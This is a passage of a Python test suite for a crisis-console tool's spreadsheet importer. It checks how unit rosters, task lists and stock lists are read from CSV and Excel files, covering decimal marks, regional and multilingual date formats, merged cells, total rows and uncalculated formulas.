    mark is named; never read as other numbers."""
    other = "," if mark == "point" else "."
    group = data.draw(st.sampled_from([None, other, " ", "\u00a0", "'"]), label="group")
    places = data.draw(st.sampled_from([0, 3, None]), label="places")  # (the column's format, or each cell's)
    stock = data.draw(st.lists(st.tuples(st.integers(0, 999) | st.integers(0, 10**7), st.integers(0, 999),
                                         st.integers(0, 3) if places is None else st.just(places),
                                         st.booleans()), min_size=1, max_size=6), label="stock")
    cells, values = [], []
    for whole, thousandths, decimals, grouped in stock:
        value = Decimal(whole) + Decimal(thousandths) / 1000
        cells.append(written(value, mark, group if grouped else None, decimals))
        values.append(float(round(value, decimals)))
    path = tmp_path_factory.mktemp("f") / "stock.csv"
    with path.open("w", newline="", encoding="utf-8") as f:
        csv_rows.csv.writer(f, delimiter=";" if mark == "comma" else ",").writerows(
            [["name", "kind", "agency", "quantity"], *[[f"Item {i}", "Sand", "THW", c] for i, c in enumerate(cells)]])
    found = read_or_asked("resources", path, decimal=mark)
    assert [r["quantity"] for r in found.rows] == values, cells
    assert found.decimal in (None, mark)


# -------------------------------------------------------------------- dates

def due(text):
    return model.parse_typed_time(text)


@pytest.mark.parametrize("cells, read, dates", [
    (["28.11.2026 18:00", "1.12.2026"], ["2026-11-28 18:00", "2026-12-01"], "day-first"),  # (Germany)
    (["1.2.2026 8:00"], ["2026-02-01 08:00"], "day-first"),  # (dots: the day first, always)
    (["28/11/2026 18:00", "03/04/2026"], ["2026-11-28 18:00", "2026-04-03"], "day-first"),  # (France, Britain)
    (["11/28/2026 6:00 PM", "03/04/2026 9:05 AM", "1/2/2026 12:30 am"],
     ["2026-11-28 18:00", "2026-03-04 09:05", "2026-01-02 00:30"], "month-first"),  # (the United States)
    (["28-11-2026 18:30:15"], ["2026-11-28 18:30:15"], "day-first"),  # (the Netherlands)
    (["2026/11/28 18:00", "12/12/2026", "2026-11-28T18:00:00Z"], ["2026-11-28 18:00", "2026-12-12",
                                                                  "2026-11-28T18:00:00Z"], None),
    # Years of two digits: the nearest today.
    (["28.11.26 18:00", "03/04/26"], ["2026-11-28 18:00", "2026-04-03"], "day-first"),
    (["11/28/26 6:00 PM"], ["2026-11-28 18:00"], "month-first"),
    # Months by name, as Excel's date formats write them in four languages, the day of the week before.
    (["28 Nov 2026 18:00", "28-Nov-26", "Nov 28, 2026 6:00 PM", "Saturday, November 28, 2026",
      "28. November 2026 18:00 Uhr", "Sa., 28. Nov. 2026", "28 novembre 2026 18h30", "sam. 28 nov. 2026 18h",
      "1er décembre 2026", "28 de noviembre de 2026, 18:00", "sáb 28-nov-2026", "3 März 2026", "3 févr. 2026"],
     ["2026-11-28 18:00", "2026-11-28", "2026-11-28 18:00", "2026-11-28", "2026-11-28 18:00", "2026-11-28",
      "2026-11-28 18:30", "2026-11-28 18:00", "2026-12-01", "2026-11-28 18:00", "2026-11-28", "2026-03-03",
      "2026-02-03"], None),
    # The day of the week says which comes first: 3 April 2026 is a Friday, 4 March a Wednesday.
    (["Fri, 03/04/2026", "05/06/2026"], ["2026-04-03", "2026-06-05"], "day-first"),
    (["Fr 03.04.2026 18:00"], ["2026-04-03 18:00"], "day-first"),
])
def test_dates_are_read_as_the_region_that_saved_the_file_writes_them(store, tmp_path, cells, read, dates):
    rows = "".join(f'Task {i};"{c}"\n' for i, c in enumerate(cells))
    found = csv_rows.read("tasks", write(tmp_path / "tasks.csv", "title;due\n" + rows))
    assert [r["due"] for r in found.rows] == [due(r) for r in read] and found.dates == dates


def test_dates_that_read_two_ways_wait_for_a_person_to_say_which_comes_first(tmp_path):
    path = write(tmp_path / "tasks.csv", "title,due\nLevee,03/04/2026 18:00\nShelter,05/06/2026\nRoads,\n")
    with pytest.raises(csv_rows.Ambiguous, match=r"^tasks\.csv, line 2: tasks\.due: '03/04/2026 18:00' may be 3 April "
                       r"2026 or 4 March 2026, and no date in the file says which: name which comes first in its "
                       r"dates \(day-first or month-first\)$") as refused:
        csv_rows.read("tasks", path)
    assert refused.value.detail == {
        "where": "tasks.csv, line 2", "field": "due", "written": "03/04/2026 18:00", "more": 1, "option": "dates",
        "readings": {"day-first": "2026-04-03 18:00", "month-first": "2026-03-04 18:00"},
        "shown": {"day-first": "3 April 2026", "month-first": "4 March 2026"}}
    found = csv_rows.read("tasks", path, dates="day-first")
    assert [r.get("due") for r in found.rows] == [due("2026-04-03 18:00"), due("2026-06-05"), None]
    found = csv_rows.read("tasks", path, dates="month-first")
    assert [r.get("due") for r in found.rows] == [due("2026-03-04 18:00"), due("2026-05-06"), None]
    with pytest.raises(ValidationError, match="is not an order of dates"):
        csv_rows.read("tasks", path, dates="year-first")


MONTHS = {  # (whole; as short as Excel's or the language's own custom writes them)
    "English": ("January February March April May June July August September October November December",
                "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec"),
    "German": ("Januar Februar März April Mai Juni Juli August September Oktober November Dezember",
               "Jan Feb Mrz Apr Mai Jun Jul Aug Sep Okt Nov Dez"),
    "French": ("janvier février mars avril mai juin juillet août septembre octobre novembre décembre",
               "janv. févr. mars avr. mai juin juil. août sept. oct. nov. déc."),
    "Spanish": ("enero febrero marzo abril mayo junio julio agosto septiembre octubre noviembre diciembre",
                "ene feb mar abr may jun jul ago sept oct nov dic"),
}
WEEKDAYS = {  # (from Monday)
    "English": ("Monday Tuesday Wednesday Thursday Friday Saturday Sunday", "Mon Tue Wed Thu Fri Sat Sun"),
    "German": ("Montag Dienstag Mittwoch Donnerstag Freitag Samstag Sonntag", "Mo Di Mi Do Fr Sa So"),
    "French": ("lundi mardi mercredi jeudi vendredi samedi dimanche", "lun. mar. mer. jeu. ven. sam. dim."),
    "Spanish": ("lunes martes miércoles jueves viernes sábado domingo", "lun mar mié jue vie sáb dom"),
}


@pytest.mark.parametrize("language", MONTHS)
def test_every_month_and_day_of_the_week_is_read_by_its_name_in_four_languages(tmp_path, language):
    """Each month by its whole name and its short one, in capitals too,
    each day of the week likewise: 15 June 2026 and so on, the day of
    the week of each first of the month before it."""
    cells, meant = [], []
    months, weekdays = ([names.split() for names in both] for both in (MONTHS[language], WEEKDAYS[language]))
    for month, (name, short) in enumerate(zip(*months, strict=True), 1):
        day, short_day = (names[datetime(2026, month, 1).weekday()] for names in weekdays)
        cells += [f"15 {name} 2026", f"15 {short} 2026", f"{name.upper()} 15, 2026", f"{short} 15, 2026 6:00 PM",
                  f"{day}, 1 {name} 2026", f"{short_day.upper()} 1 {short} 2026 18:00"]
        meant += [f"2026-{month:02d}-15"] * 3 + [f"2026-{month:02d}-15 18:00", f"2026-{month:02d}-01",
                                                 f"2026-{month:02d}-01 18:00"]
    rows = "".join(f'T{i},"{c}"\n' for i, c in enumerate(cells))
    found = csv_rows.read("tasks", write(tmp_path / "tasks.csv", "title,due\n" + rows))
    assert [r["due"] for r in found.rows] == [due(m) for m in meant]


@pytest.mark.parametrize("text, said", [
    ("title,due\nA,28/11/2026\nB,11/28/2026\n", "f.csv, line 3: tasks.due: '11/28/2026' is written with the month "
     "first, not the day first, as line 2 writes '28/11/2026': write the dates alike"),
    ("title,due\nA,28.11.2026\nB,11/28/2026\n", "f.csv, line 3: tasks.due: '11/28/2026' is written with the month "
     "first, not the day first, as line 2 writes '28.11.2026': write the dates alike"),
    ("title,due\nA,31/02/2026\n", "f.csv, line 2: tasks.due: '31/02/2026' is not a time (e.g. 18:30, 1830, +45m, "
     "+2h, now, or 2026-11-25 18:30)"),
    ("title,due\nA,28/11/2026 25:00\n", "f.csv, line 2: tasks.due: '28/11/2026 25:00' is not a time (e.g. 18:30, "
     "1830, +45m, +2h, now, or 2026-11-25 18:30)"),
    # A day of the week that is not the date's; a month of no language read.
    ("title,due\nA,Fri 28 Nov 2026\n", "f.csv, line 2: tasks.due: 'Fri 28 Nov 2026' names a Friday, but 28 "
     "November 2026 is a Saturday"),
    ("title,due\nA,\"Thu, 03/04/2026\"\n", "f.csv, line 2: tasks.due: 'Thu, 03/04/2026' names a Thursday, but 4 "
     "March 2026 is a Wednesday and 3 April 2026 is a Friday"),
    ("title,due\nA,Wed 03/04/2026\nB,28/11/2026\n", "f.csv, line 3: tasks.due: '28/11/2026' is written with the "
     "day first, not the month first, as line 2 writes 'Wed 03/04/2026': write the dates alike"),
    ("title,due\nA,28 Brumaire 2026\n", "f.csv, line 2: tasks.due: '28 Brumaire 2026' is not a time (e.g. 18:30, "
     "1830, +45m, +2h, now, or 2026-11-25 18:30)"),
    ("title,due\nA,31 Feb 2026\n", "f.csv, line 2: tasks.due: '31 Feb 2026' is not a time (e.g. 18:30, 1830, "
     "+45m, +2h, now, or 2026-11-25 18:30)"),
])
def test_dates_written_two_ways_in_one_file_or_wrong_are_refused_saying_why(tmp_path, text, said):
    with pytest.raises(ValidationError) as refused:
        csv_rows.read("tasks", write(tmp_path / "f.csv", text))
    assert str(refused.value) == said


def test_the_add_command_says_which_comes_first_in_the_dates(tmp_path, capsys):
    tasks = write(tmp_path / "tasks.csv", "Task,Due by\nLevee,03/04/2026 18:00\n")
    db = tmp_path / "ops.db"
    assert cli.main(["add", "--db", str(db), "tasks", "--csv", str(tasks)]) == 1
    assert capsys.readouterr()[1].endswith("(--dates day-first reads it as 3 April 2026, --dates month-first as "
                                           "4 March 2026)\n")
    assert cli.main(["add", "--db", str(db), "tasks", "--csv", str(tasks), "--dates", "month-first"]) == 0
    assert capsys.readouterr()[0] == (f"added 1 tasks from {tasks} (dates with the month first; columns read as: "
                                      "Task as title, Due by as due)\n")
    with Store(db) as s:
        assert s.list("tasks")[0].due == due("2026-03-04 18:00")


@given(st.sampled_from(["day-first", "month-first"]), st.data())
@settings(max_examples=150, deadline=None)
def test_a_file_of_dates_is_read_as_written_or_asked_about_never_misread(tmp_path_factory, order, data):
    """Due times written alike, as one region writes them (the day or the
    month first, dots, slashes or dashes, or the month by name in one of
    four languages, a year of four digits or two, a time of day or none,
    AM and PM): read as written, or refused as Ambiguous and then read as
    written once the order is named; never read as other dates."""
    sep = data.draw(st.sampled_from(["/", "-"] + (["."] if order == "day-first" else [])), label="sep")
    clock = data.draw(st.sampled_from(["", "24h", "ampm"] if order == "month-first" else ["", "24h"]), label="clock")
    named = data.draw(st.sampled_from([None, None, *MONTHS]), label="months named in")
    short = data.draw(st.booleans(), label="short names")
    two_digits = data.draw(st.booleans(), label="years of two digits") and not (named and order == "month-first")
    now = date.today().year  # (a year of two digits is the one nearest today)
    moment = st.builds(datetime, st.integers(now - 49, now + 49) if two_digits else st.integers(2000, 2099),
                       st.integers(1, 12), st.integers(1, 12) | st.integers(1, 28),
                       st.integers(0, 23), st.integers(0, 59))  # (days of 1 to 12 often: those read two ways)
    moments = data.draw(st.lists(moment, min_size=1, max_size=5), label="moments")
    cells, meant = [], []
    for at in moments:
        first, second = (at.day, at.month) if order == "day-first" else (at.month, at.day)
        year = f"{at.year % 100:02d}" if two_digits else at.year
        if named is None:
            cell = f"{first:02d}{sep}{second:02d}{sep}{year}"
        else:
            month = MONTHS[named][short].split()[at.month - 1]
            cell = f"{at.day} {month} {year}" if order == "day-first" else f"{month} {at.day}, {year}"
        if clock == "24h":
            cell += f" {at.hour:02d}:{at.minute:02d}"
        elif clock == "ampm":
            cell += f" {at.hour % 12 or 12}:{at.minute:02d} {'PM' if at.hour >= 12 else 'AM'}"
        cells.append(cell)
        meant.append(due(at.strftime("%Y-%m-%d %H:%M") if clock else at.strftime("%Y-%m-%d")))
    path = tmp_path_factory.mktemp("f") / "tasks.csv"
    path.write_text("title,due\n" + "".join(f'T{i},"{c}"\n' for i, c in enumerate(cells)), encoding="utf-8")
    found = read_or_asked("tasks", path, dates=order)
    assert [r["due"] for r in found.rows] == meant, cells
    assert found.dates in (None, order)


# ---------------------------------------------------------------- workbooks

def workbook(path, sheets, *, active=0, hidden=()):
    """An .xlsx file as Excel would save it: {sheet title: rows of cells}."""
    import openpyxl

    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for title, rows in sheets.items():
        ws = wb.create_sheet(title)
        for row in rows:
            ws.append(list(row))
        if title in hidden:
            ws.sheet_state = "hidden"
    wb.active = active
    wb.save(path)
    return path


def test_a_roster_saved_as_an_excel_workbook(store, tmp_path):
    """Cells as Excel holds them: numbers (a callsign typed as one, a
    count, a coordinate), dates, a title row and blank rows before the
    header, blank rows among the rows."""
    from datetime import datetime, time

    roster = workbook(tmp_path / "roster.xlsx", {"Roster": [
        ["County Fire roster"], [],
        ["Callsign", "Agency", "Kind", "Personnel", "Lat", "Lon", "Location"],
        ["E-21", "County Fire", "Engine, Type 1", 4, 45.5, -122.25, None],
        [], [],
        [21, "County Fire", "Water tender", 2.0, None, None, "Station 2"],
    ]})
    found = csv_rows.read("units", roster)  # (its title above its columns' names: left out, and said)
    assert found.above == ["County Fire roster"] and found.lines == ["roster.xlsx, row 4", "roster.xlsx, row 7"]
    roster = workbook(tmp_path / "roster.xlsx", {"Roster": [
        [], [],
        ["Callsign", "Agency", "Kind", "Personnel", "Lat", "Lon", "Location"],
        ["E-21", "County Fire", "Engine, Type 1", 4, 45.5, -122.25, None],
        [], [],
        [21, "County Fire", "Water tender", 2.0, None, None, "Station 2"],
    ]})
    found = csv_rows.read("units", roster)
    assert found.sheet == "Roster" and found.encoding is None and found.left_out == [] and found.above == []
    assert found.lines == ["roster.xlsx, row 4", "roster.xlsx, row 7"]
    assert found.rows == [
        {"callsign": "E-21", "agency": "County Fire", "kind": "Engine, Type 1", "personnel": 4, "lat": 45.5,
         "lon": -122.25},
        {"callsign": "21", "agency": "County Fire", "kind": "Water tender", "personnel": 2, "location": "Station 2"}]
    store.add_many("units", found.rows, where=found.lines)
    assert rows_of(store, "units")["21"].personnel == 2
    # A due time as a date and time cell, in this computer's time zone as one typed without a zone is.
    due = datetime(2026, 11, 28, 18, 30)
    tasks = workbook(tmp_path / "tasks.xlsx", {"Tasks": [["Title", "Due", "Priority"], ["Sandbag the levee", due,
                                                                                        "urgent"]]})
    found = csv_rows.read("tasks", tasks)
    assert found.rows == [{"title": "Sandbag the levee", "priority": "urgent",
                           "due": csv_rows.model.parse_typed_time("2026-11-28 18:30:00")}]
    assert csv_rows._text(time(18, 30)) == "18:30:00" and csv_rows._text(True) == "true"
    assert csv_rows._text(0.1) == "0.1" and csv_rows._text(-3.0) == "-3"


@pytest.mark.parametrize("error", ["#N/A", "#REF!", "#NV", "#BEZUG!", "#VALEUR!", "#¡VALOR!"])
def test_a_cell_excel_could_not_work_out_is_refused_not_taken_as_a_value(tmp_path, error):
    """A roster whose kinds come from a lookup that failed on one row: the
    cell holds Excel's error (in a workbook; in a CSV file, as Excel
    shows it in its language), which is refused, not added as the unit's
    kind."""
    said = (f"tasks.{{}}, {{}}: kind: {error} is what Excel shows for a formula it could not work out: put it right "
            "in the spreadsheet, or empty the cell")
    csv = write(tmp_path / "roster.csv", f"callsign;agency;kind\nE-21;Fire;Engine\nE-22;Fire; {error}\n")
    with pytest.raises(ValidationError) as refused:
        csv_rows.read("units", csv)
    assert str(refused.value) == said.format("csv", "line 3").replace("tasks.", "roster.")
    if error.isascii() and not error.startswith(("#NV", "#BEZUG", "#VALEUR")):  # (a workbook holds the English)
        book = workbook(tmp_path / "roster.xlsx", {"Units": [["callsign", "agency", "kind"], ["E-21", "Fire", "Engine"],
                                                              ["E-22", "Fire", error]]})
        with pytest.raises(ValidationError) as refused:
            csv_rows.read("units", book)
        assert str(refused.value) == said.format("xlsx", "row 3").replace("tasks.", "roster.")
    assert [r["kind"] for r in csv_rows.read("units", write(tmp_path / "ok.csv", "callsign;kind;agency\n"
                                                                                  "E-21;#4 engine;Fire\n")).rows] \
        == ["#4 engine"]


def test_of_several_sheets_the_one_shown_is_read_unless_another_is_named(store, tmp_path):
    book = workbook(tmp_path / "agencies.xlsx", {
        "Fire": [["callsign", "agency", "kind"], ["E-21", "County Fire", "Engine"]],
        "Old": [["callsign", "agency", "kind"], ["X-1", "Gone", "Engine"]],
        "EMS": [["callsign", "agency", "kind"], ["M-7", "County EMS", "Ambulance"], ["M-7", "County EMS", "x"]],
    }, active=2, hidden=("Old",))
    assert csv_rows.sheets(book) == ["EMS", "Fire"]  # the one shown first; a hidden one not listed
    with pytest.raises(ValidationError, match=r"^agencies\.xlsx, sheet 'EMS', row 3: callsign 'M-7' appears "
                                              r"twice"):
        found = csv_rows.read("units", book)
        store.add_many("units", found.rows, where=found.lines)
    found = csv_rows.read("units", book, sheet="  fire ")
    assert found.sheet == "Fire" and found.lines == ["agencies.xlsx, sheet 'Fire', row 2"]
    assert csv_rows.read("units", book, sheet="Old").rows[0]["callsign"] == "X-1"  # named: read, hidden or not
    with pytest.raises(ValidationError, match=r"^agencies.xlsx has no sheet 'Police' \(its sheets: 'Fire', 'EMS'\)$"):
        csv_rows.read("units", book, sheet="Police")
    with pytest.raises(ValidationError, match="is an Excel workbook: it has no encoding to name"):
        csv_rows.read("units", book, encoding="cp1252")
    assert csv_rows.sheets(write(tmp_path / "a.csv", "callsign\n")) == []


def test_the_add_command_reads_a_workbook_sheet(tmp_path, capsys):
    book = workbook(tmp_path / "agencies.xlsx", {
        "Fire": [["callsign", "agency", "kind", "id"], ["E-21", "County Fire", "Engine", "x"]],
        "EMS": [["callsign", "agency", "kind"], ["M-7", "County EMS", "Ambulance"]]})
    db = tmp_path / "ops.db"
    assert cli.main(["add", "--db", str(db), "units", "--csv", str(book), "--sheet", "EMS"]) == 0
    assert capsys.readouterr()[0] == f"added 1 units from {book} (sheet 'EMS')\n"
    assert cli.main(["add", "--db", str(db), "units", "--csv", str(book)]) == 0
    assert capsys.readouterr()[0] == f"added 1 units from {book} (sheet 'Fire'; columns left out: id)\n"
    assert cli.main(["add", "--db", str(db), "units", "--csv", str(book), "--sheet", "Police"]) == 1
    assert capsys.readouterr()[1] == ("crisis-console: agencies.xlsx has no sheet 'Police' (its sheets: 'Fire', "
                                      "'EMS')\n")
    with Store(db) as s:
        assert sorted(u.callsign for u in s.list("units")) == ["E-21", "M-7"]


def test_the_lines_above_a_roster_s_column_names_are_left_out_and_said(tmp_path, capsys):
    """A roster as agencies make them: its title, when and by whom, and
    headings over groups of columns, above the row naming its columns.
    That row is the first to name every column a unit needs (by any name
    of it), within the first few; the lines above it are left out and
    said. Without one, the first line is the columns', as before."""
    text = ("County Fire roster;;;;\nPrepared 28.11.2026 by Capt. Ortiz;;;;\n;;;;\nUnit;;;Position;\n"
            "Call sign;Agency;Type;Lat;Lon\nE-21;County Fire;Engine;45,5;-122,25\nE-22;County Fire;Engine;;\n")
    roster = write(tmp_path / "roster.csv", text)
    found = csv_rows.read("units", roster)
    assert found.above == ["County Fire roster", "Prepared 28.11.2026 by Capt. Ortiz", "Unit Position"]
    assert found.lines == ["roster.csv, line 6", "roster.csv, line 7"]
    assert [(r["callsign"], r.get("lat")) for r in found.rows] == [("E-21", 45.5), ("E-22", None)]
    db = tmp_path / "ops.db"
    assert cli.main(["add", "--db", str(db), "units", "--csv", str(roster)]) == 0
    assert capsys.readouterr()[0] == (
        f"added 2 units from {roster} (left out above its columns' names: 'County Fire roster'; 'Prepared 28.11.2026 "
        "by Capt. Ortiz'; 'Unit Position'; numbers with a decimal comma; columns read as: Call sign as callsign, "
        "Type as kind)\n")
    # A title as long as a paragraph is said cut short.
    found = csv_rows.read("units", write(tmp_path / "long.csv", "x" * 200 + "\ncallsign,agency,kind\nE-1,F,E\n"))
    assert found.above == ["x" * 79 + "…"]
    # No line names every column a unit needs: the first is the columns', and what it lacks is said.
    with pytest.raises(ValidationError, match=r"^roster\.csv has no kind column \(a unit needs one\)$"):
        csv_rows.read("units", write(tmp_path / "roster.csv", "callsign,agency\nE-1,Fire\nE-2,Fire\n"))
    with pytest.raises(ValidationError, match=r"^titles\.csv: the column 'Roster' is not a field of units"):
        csv_rows.read("units", write(tmp_path / "titles.csv", "Roster\n" + "Title\n" * csv_rows.HEADER_WITHIN
                                     + "callsign,agency,kind\nE-1,Fire,Engine\n"))


@pytest.mark.parametrize("table, text, said", [
    ("tasks", "Callsign;Agency;Kind\nE-1;Fire;Engine\n", "f.csv has no title column (a task needs one; its other "
     "columns: Callsign, Kind): its columns are those of units, so add it as units"),
    ("units", "Title,Priority,Due\nLevee,high,18:00\n", "f.csv has no callsign column (a unit needs one; its other "
     "columns: Title, Priority, Due): its columns are those of tasks, so add it as tasks"),
    ("units", "Name,Kind,Agency,Qty\nCots,Shelter,DRK,40\n", "f.csv has no callsign column (a unit needs one; its "
     "other columns: Name, Qty): its columns are those of resources, so add it as resources"),
])
def test_a_list_of_another_table_is_refused_saying_which_it_is(tmp_path, capsys, table, text, said):
    """A roster imported on the tasks board (the board shown was not the
    one meant): refused, saying what the file is a list of, whatever is
    said of its other columns."""
    path = write(tmp_path / "f.csv", text)
    for leave_others in (False, True):
        with pytest.raises(ValidationError) as refused:
            csv_rows.read(table, path, leave_others=leave_others)
        assert str(refused.value) == said and type(refused.value) is ValidationError


def test_rows_of_totals_under_a_stock_list_are_left_out_and_said(tmp_path, capsys):
    """A stock list as logistics keep them: a subtotal under each group, a
    total at the bottom. Those rows say nothing but a word of totals and
    numbers, lacking what a stock item needs: left out, and said; an item
    named so, with all it needs, is an item; any other row lacking a
    field is refused, as before."""
    text = ("Bezeichnung;Art;Organisation;Menge\nSandsäcke;Sand;THW;5.000\nSandsäcke;Sand;Feuerwehr;1.200\n"
            "Zwischensumme;;;6.200\nFeldbetten;Unterkunft;DRK;40\n;;;\nSumme:;;;6.240\n")
    stock = write(tmp_path / "lager.csv", text)
    found = csv_rows.read("resources", stock, decimal="comma")
    assert [(r["name"], r["quantity"]) for r in found.rows] == [("Sandsäcke", 5000), ("Sandsäcke", 1200),
                                                                 ("Feldbetten", 40)]
    assert found.totals == ["line 4 (Zwischensumme)", "line 7 (Summe:)"]
    assert found.lines == ["lager.csv, line 2", "lager.csv, line 3", "lager.csv, line 5"]
    db = tmp_path / "ops.db"
    assert cli.main(["add", "--db", str(db), "resources", "--csv", str(stock), "--decimal", "comma"]) == 0
    assert capsys.readouterr()[0].endswith("; rows of totals left out: line 4 (Zwischensumme), line 7 (Summe:))\n")
    with Store(db) as s:
        assert sorted(r.quantity for r in s.list("resources")) == [40, 1200, 5000]
    # A total that reads two ways is not asked about: it is not added.
    found = csv_rows.read("resources", write(tmp_path / "c.csv", "name;kind;agency;quantity\nCots;Shelter;DRK;500\n"
                                                                 "Cots;Shelter;ASB;1000\nTotal;;;1.500\n"))
    assert [r["quantity"] for r in found.rows] == [500, 1000] and found.totals == ["line 4 (Total)"]
    # An item named so, with all it needs, is one; a row lacking a field, not of totals, is refused.
    found = csv_rows.read("resources", write(tmp_path / "a.csv", "name,kind,agency,quantity\nTotal,Fuel,DOT,30\n"))
    assert found.rows[0]["name"] == "Total" and found.totals == []
    with pytest.raises(ValidationError, match=r"^b\.csv, line 3: no kind \(a resource needs one\); line 2 above "):
        csv_rows.read("resources", write(tmp_path / "b.csv", "name,kind,agency,quantity\nCots,Shelter,DRK,4\n"
                                                             "Cots left,,,3\n"))


def test_columns_named_in_two_rows_under_a_heading_are_read_by_the_lower_names(tmp_path):
    """A header in two rows: "Position" over two columns (merged in the
    workbook; in its CSV file, followed by an empty cell), Lat and Lon
    under it. The lower names are the columns'; a row under the header
    that has values under the columns a row needs is data, and one with a
    value under a field's own name is not taken for names."""
    import openpyxl

    wb = openpyxl.Workbook()
    for row in (["Callsign", "Agency", "Kind", "Position", None], [None, None, None, "Lat", "Lon"],
                ["E-1", "Fire", "Engine", 48.85, 2.35], ["E-2", "Fire", "Engine", None, None]):
        wb.active.append(row)
    wb.active.merge_cells("D1:E1")
    wb.save(tmp_path / "two.xlsx")
    csv = write(tmp_path / "two.csv", "Callsign;Agency;Kind;Position;\n;;;Lat;Lon\nE-1;Fire;Engine;48,85;2,35\n"
                                      "E-2;Fire;Engine;;\n")
    for path, unit in ((tmp_path / "two.xlsx", "row"), (csv, "line")):
        found = csv_rows.read("units", path)
        assert [(r["callsign"], r.get("lat"), r.get("lon")) for r in found.rows] == [("E-1", 48.85, 2.35),
                                                                                     ("E-2", None, None)]
        assert found.lines == [f"{path.name}, {unit} 3", f"{path.name}, {unit} 4"] and found.others == []
    with pytest.raises(ValidationError, match=r"^n\.csv, line 2: no callsign \(a unit needs one\)$"):
        csv_rows.read("units", write(tmp_path / "n.csv", "callsign,agency,kind,notes\n,,,status\nE-1,F,E,x\n"))


def rezip(src, dest, parts):
    """A copy of zip `src` with `parts` ({name: bytes, or None to leave it
    out}) in place of its own."""
    import zipfile

    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename not in parts:
                zout.writestr(info, zin.read(info.filename))
        for name, data in parts.items():
            if data is not None:
                zout.writestr(name, data)
    return dest


def test_a_formula_the_program_that_saved_the_workbook_did_not_work_out_is_refused(tmp_path):
    """A roster written by a script (openpyxl here): its formulas hold no
    value until Excel works them out, and would read as empty (a unit's
    kind missing, a count of none); xlsxwriter writes 0 for each and asks
    Excel to work them out on opening (fullCalcOnLoad). Either is refused,
    naming the cell's row and field, saying how to put it right; saved
    by Excel, with its values, the same workbook reads as Excel shows it.
    A formula in a column left out, or in a row of totals, is no matter."""
    import zipfile

    rows = [["callsign", "agency", "kind", "personnel", "radio"], ["E-21", "Fire", "Engine", 4, "=1+1"],
            ["E-22", "Fire", '="Eng"&"ine"', "=2+2", None], ["=A2&\"B\"", "=B2", "=C2", "=D2", None]]
    book = workbook(tmp_path / "script.xlsx", {"Units": rows})
    said = "its cell holds a formula the program that saved the file did not work out: open the file in Excel or " \
           "LibreOffice, and save it again"
    with pytest.raises(ValidationError, match=re.escape(f"script.xlsx, row 3: kind: {said}")):
        csv_rows.read("units", book, leave_others=True)
    # As Excel saves it: each formula's value beside it, and no call to work them out again.
    with zipfile.ZipFile(book) as z:
        sheet, wb = z.read("xl/worksheets/sheet1.xml"), z.read("xl/workbook.xml")
    values = {b"C3": "Engine", b"D3": 4, b"E2": 2, b"A4": "E-21B", b"B4": "Fire", b"C4": "Engine", b"D4": 4}
    for ref, v in values.items():  # (text a formula gives is typed so: t="str")
        typed = b' t="str"' if isinstance(v, str) else b""
        sheet = re.sub(rb'(<c r="' + ref + rb'"[^>]*)>(<f>[^<]*</f>)<v\s*/>',
                       lambda m, v=v, typed=typed: m[1] + typed + b">" + m[2] + f"<v>{v}</v>".encode(), sheet)
    saved = rezip(book, tmp_path / "saved.xlsx", {"xl/worksheets/sheet1.xml": sheet,
                                                  "xl/workbook.xml": wb.replace(b' fullCalcOnLoad="1"', b"")})
    found = csv_rows.read("units", saved, leave_others=True)
    assert [(r["callsign"], r["kind"], r["personnel"]) for r in found.rows] == [
        ("E-21", "Engine", 4), ("E-22", "Engine", 4), ("E-21B", "Engine", 4)]
    # Values beside the formulas, but a call to work them out again on opening (xlsxwriter's 0): not trusted.
    recalc = rezip(book, tmp_path / "recalc.xlsx", {"xl/worksheets/sheet1.xml": sheet})
    with pytest.raises(ValidationError, match=re.escape(f"recalc.xlsx, row 3: kind: {said}")):
        csv_rows.read("units", recalc, leave_others=True)
    # A row of nothing but formulas is no blank row; a formula in a column left out, or in a total, is no matter.
    only = workbook(tmp_path / "only.xlsx", {"Units": [rows[0], rows[1], rows[3]]})
    with pytest.raises(ValidationError, match=re.escape(f"only.xlsx, row 3: callsign: {said}")):
        csv_rows.read("units", only, leave_others=True)
    found = csv_rows.read("units", workbook(tmp_path / "radio.xlsx", {"Units": rows[:2]}), leave_others=True)
    assert found.rows == [{"callsign": "E-21", "agency": "Fire", "kind": "Engine", "personnel": 4}]
    stock = workbook(tmp_path / "stock.xlsx", {"Stock": [["name", "kind", "agency", "quantity"],
                                                          ["Cots", "Shelter", "DRK", 40],
                                                          ["Total", None, None, "=D2"]]})
    assert csv_rows.read("resources", stock).totals == ["row 3 (Total)"]


def test_cells_merged_over_rows_are_read_in_each_row_as_the_sheet_shows_them(tmp_path, capsys):
    """A roster grouped by agency and station, each group's agency in one
    cell merged over its rows: the sheet shows it in each row, and each
    row is read with it, and said so; a heading merged over columns, or
    over the rows of the columns' names, is not spread; a merged cell in a
    column left out is no matter."""
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Roster"
    for row in (["County Fire roster", None, None, None], ["callsign", "agency", "kind", "radio"],
                ["E-21", "County Fire", "Engine", "Station 2"], ["E-22", None, "Engine", None],
                ["T-1", None, "Tender", "Station 3"], ["M-7", "County EMS", "Ambulance", "Station 3"],
                ["M-8", None, "Ambulance", None]):
        ws.append(row)
    for merged in ("A1:D1", "B3:B5", "B6:B7", "D5:D7", "D3:D4"):
        ws.merge_cells(merged)
    book = tmp_path / "roster.xlsx"
    wb.save(book)
    found = csv_rows.read("units", book, leave_others=True)
    assert [(r["callsign"], r["agency"]) for r in found.rows] == [
        ("E-21", "County Fire"), ("E-22", "County Fire"), ("T-1", "County Fire"), ("M-7", "County EMS"),
        ("M-8", "County EMS")]
    assert found.filled == ["agency (rows 3 to 5)", "agency (rows 6 to 7)"] and found.above == ["County Fire roster"]
    # Saved as CSV, the merged cell is in its first row only: the refusal says why the next lacks it.
    with pytest.raises(ValidationError, match=r"^roster\.csv, line 3: no agency \(a unit needs one\); line 2 above "
                                              r"has one: a cell merged over several rows is written in its first only "
                                              r"when a spreadsheet is saved as CSV, so read the workbook \(\.xlsx\) "
                                              r"itself, or fill the cells$"):
        csv_rows.read("units", write(tmp_path / "roster.csv", "callsign,agency,kind\nE-21,Fire,Engine\nE-22,,Engine\n"))
    assert found.others == ["radio"]
    db = tmp_path / "ops.db"
    assert cli.main(["add", "--db", str(db), "units", "--csv", str(book), "--leave-out-others"]) == 0
